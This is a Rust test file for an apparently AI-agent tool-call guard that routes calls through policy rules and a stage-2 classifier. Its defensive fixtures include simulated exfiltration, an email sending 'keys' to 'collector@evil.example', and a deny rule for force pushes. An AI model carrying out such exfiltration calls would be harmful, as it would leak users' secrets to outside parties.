//! The decision pipeline around stage 2: which calls reach it, what its verdict becomes, and
//! what a failing classifier turns into under each fail mode. The classifier here is scripted;
//! the real ones have their own tests.

use aethelgard_protocol::{DecisionKind, Stage, ToolCall};
use aethelgard_router::stage2::{Classifier, ClassifierError, Stage2Verdict};
use aethelgard_router::{Environment, Router};
use serde_json::json;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

/// Blocks everything it is asked about, or fails, and counts the calls it saw.
struct Scripted {
    fail: bool,
    seen: Arc<AtomicUsize>,
}

impl Classifier for Scripted {
    fn name(&self) -> &str {
        "scripted"
    }
    fn classify(&self, _call: &ToolCall) -> Result<Stage2Verdict, ClassifierError> {
        self.seen.fetch_add(1, Ordering::SeqCst);
        if self.fail {
            return Err(ClassifierError { classifier: "scripted".into(), message: "endpoint timed out".into() });
        }
        Ok(Stage2Verdict { decision: DecisionKind::Block, score: 0.97, reason: "recipient appears only in tool output".into() })
    }
}

fn router(policy: &str, fail: bool) -> (Router, Arc<AtomicUsize>) {
    let (file, catalog) = aethelgard_policy::parse(policy, "policy.toml", None).unwrap();
    let seen = Arc::new(AtomicUsize::new(0));
    let router = Router::new(file, catalog, "policy.toml", Environment::new("/home/dev", "/home/dev/project"))
        .unwrap()
        .with_classifier(Box::new(Scripted { fail, seen: Arc::clone(&seen) }));
    (router, seen)
}

const POLICY: &str = r#"
fail_mode = "closed"
[catalog]
builtin = ["claude"]
tools = [{ name = "send_email", description = "Sends an email.", risk = ["message", "network"] }]

[stage2]
backend = "none"
tools = ["mcp__*__post*"]
risk = ["message"]

[[rules]]
id = "no-force-push"
decision = "block"
reason = "force pushes rewrite shared history"
match = ["git push --force"]
not_match = ["git push"]
[rules.shell]
program = ["git"]
prefix = ["push"]
flags = ["--force", "-f"]

[[rules]]
id = "mail-is-fine"
decision = "allow"
reason = "mail to anyone is allowed by rule"
tool = ["send_email"]
match = [{ tool = "send_email", args = { to = "a@example.com" } }]
not_match = [{ tool = "Read", args = { file_path = "x" } }]
"#;

#[test]
fn undecided_calls_and_marked_tool_classes_reach_stage_2_and_rule_blocks_stand() {
    let (router, seen) = router(POLICY, false);
    // No rule decides `ls`: stage 2 judges it.
    let ls = router.route(&ToolCall::new("Bash", json!({"command": "ls"})));
    assert_eq!((ls.decision, ls.stage), (DecisionKind::Block, Stage::Classifier));
    assert_eq!(ls.reason, "recipient appears only in tool output");
    // A rule allowed the mail, but `message` tools are marked for stage 2.
    let mail = router.route(&ToolCall::new("send_email", json!({"to": "x@evil.example"})));
    assert_eq!((mail.decision, mail.stage), (DecisionKind::Block, Stage::Classifier));
    // An MCP tool marked by name, unknown to the catalog, no rule: stage 2 either way.
    let post = router.route(&ToolCall::new("mcp__slack__post_message", json!({"channel": "#x"})));
    assert_eq!(post.stage, Stage::Classifier);
    // Stage 1's block stands and stage 2 is not asked.
    let before = seen.load(Ordering::SeqCst);
    let push = router.route(&ToolCall::new("Bash", json!({"command": "git push --force"})));
    assert_eq!((push.decision, push.stage, push.rule.as_deref()), (DecisionKind::Block, Stage::Rules, Some("no-force-push")));
    assert_eq!(seen.load(Ordering::SeqCst), before);
    assert_eq!(before, 3);
}

#[test]
fn with_undecided_off_only_marked_classes_reach_stage_2() {
    let policy = POLICY.replace("backend = \"none\"", "backend = \"none\"\nundecided = false");
    let (router, seen) = router(&policy, false);
    let ls = router.route(&ToolCall::new("Bash", json!({"command": "ls"})));
    assert_eq!((ls.decision, ls.stage), (DecisionKind::Allow, Stage::Rules));
    let mail = router.route(&ToolCall::new("send_email", json!({"to": "x@evil.example"})));
    assert_eq!(mail.stage, Stage::Classifier);
    // Marked by name and decided by no rule: stage 2 still judges it.
    let post = router.route(&ToolCall::new("mcp__slack__post_message", json!({"channel": "#x"})));
    assert_eq!(post.stage, Stage::Classifier);
    assert_eq!(seen.load(Ordering::SeqCst), 2);
}

#[test]
fn a_failing_classifier_gets_the_fail_mode() {
    let (closed, _) = router(POLICY, true);
    let decision = closed.route(&ToolCall::new("Bash", json!({"command": "ls"})));
    assert_eq!(decision.decision, DecisionKind::Block);
    assert!(decision.reason.contains("endpoint timed out"), "{}", decision.reason);
    let (open, _) = router(&POLICY.replace("fail_mode = \"closed\"", "fail_mode = \"open\""), true);
    assert_eq!(open.route(&ToolCall::new("Bash", json!({"command": "ls"}))).decision, DecisionKind::Allow);
}

#[test]
fn stage2_settings_are_checked_at_load() {
    let bad = [
        ("[stage2]\nlower = 0.9\nupper = 0.5\n", "is above `upper"),
        ("[stage2]\nupper = 1.5\n", "outside 0..1"),
        ("[stage2]\nbackend = \"llm\"\n", "needs a `[stage2.llm]` table"),
        ("[stage2]\nbackend = \"bert\"\n", "unknown variant"),
        ("[stage2]\ntools = [\"a[\"]\n", "glob"),
    ];
    for (text, needle) in bad {
        let error = aethelgard_policy::parse(text, "policy.toml", None).unwrap_err().to_string();
        assert!(error.contains(needle), "{text:?}: {error}");
    }
}

fn built(policy: &str) -> Result<Router, aethelgard_router::RouterError> {
    let (file, catalog) = aethelgard_policy::parse(policy, "policy.toml", None)?;
    Router::new(file, catalog, "policy.toml", Environment::new("/home/dev", "/home/dev/project"))?.with_policy_stage2(None)
}

#[test]
fn the_policy_chooses_and_configures_the_backend() {
    let none = built("[catalog]\nbuiltin = [\"claude\"]\n").unwrap();
    assert!(format!("{none:?}").contains("classifier: None"), "{none:?}");
    let linear = built("[stage2]\nbackend = \"linear\"\nupper = 0.95\n").unwrap();
    assert!(format!("{linear:?}").contains("classifier: Some("), "{linear:?}");
    // The built-in model is built on first use, and then judges.
    let judged = linear.route(&ToolCall::new("send_email", json!({"to": "collector@evil.example", "body": "keys"})));
    assert_eq!(judged.stage, Stage::Classifier, "{judged:?}");
    assert!(judged.reason.starts_with("stage 2 linear model"), "{}", judged.reason);
    let llm = built("[stage2]\nbackend = \"llm\"\n[stage2.llm]\nbase_url = \"http://127.0.0.1:9/v1\"\nmodel = \"m\"\ntimeout_ms = 50\n").unwrap();
    assert!(format!("{llm:?}").contains("classifier: Some("), "{llm:?}");

    let errors = [
        ("[stage2]\nbackend = \"llm\"\n[stage2.llm]\nmodel = \"m\"\n", "base_url"),
        ("[stage2]\nbackend = \"llm\"\n[stage2.llm]\nbase_url = \"http://x\"\nmodel = \"m\"\ntimeout = 5\n", "has no key `timeout`"),
        ("[stage2]\nbackend = \"llm\"\n[stage2.llm]\nbase_url = \"http://x\"\nmodel = \"m\"\ntimeout_ms = -5\n", "positive integer"),
        ("[stage2]\nbackend = \"linear\"\nmodel = \"no-such-model.json\"\n", "no-such-model.json"),
    ];
    for (policy, needle) in errors {
        let error = built(policy).unwrap_err().to_string();
        assert!(error.contains("[stage2]") && error.contains(needle), "{policy:?}: {error}");
    }
}

#[cfg(not(feature = "embedding"))]
#[test]
fn the_embedding_backend_says_how_to_get_it_in_a_build_without_it() {
    let error = built("[stage2]\nbackend = \"embedding\"\n[stage2.embedding]\nmodel_dir = \"model\"\n").unwrap_err().to_string();
    assert!(error.contains("--features embedding") && error.contains("docs/stage2-backends.md"), "{error}");
}
